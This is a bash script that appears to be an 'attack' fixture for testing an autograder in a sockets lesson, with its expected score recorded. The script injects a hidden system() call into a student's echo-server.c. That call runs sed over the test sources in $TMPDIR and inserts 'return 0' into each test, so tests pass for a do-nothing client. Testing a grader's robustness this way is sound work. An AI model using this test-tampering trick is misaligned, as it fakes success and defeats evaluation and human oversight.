#!/usr/bin/env bash
# attack: a right server writes "return 0" into the tests that are still to come, for a client that does nothing
# lesson: 02-bind-listen-accept
# says: FAIL echo-client ends after the end of its input
# points: 88.571
# passes: 58
# The points are those of the functions and of the server, which are right.
source "${BASH_SOURCE%/*}/common.bash"

solved "$lesson" tcp.c echo-server.c
top "$lesson/echo-server.c" <<<'#include <stdlib.h>'
awk '{ print } /^int main/ { seen = 1 } seen && /^{/ { seen = 0
    print "    (void)!system(\"cd $TMPDIR; for f in $(find . -name *.src); do sed -i /^test_/a\\\\return\\\\ 0 $f; done 2>&-\");" }' "$lesson/echo-server.c" >"$lesson/new"
mv "$lesson/new" "$lesson/echo-server.c"
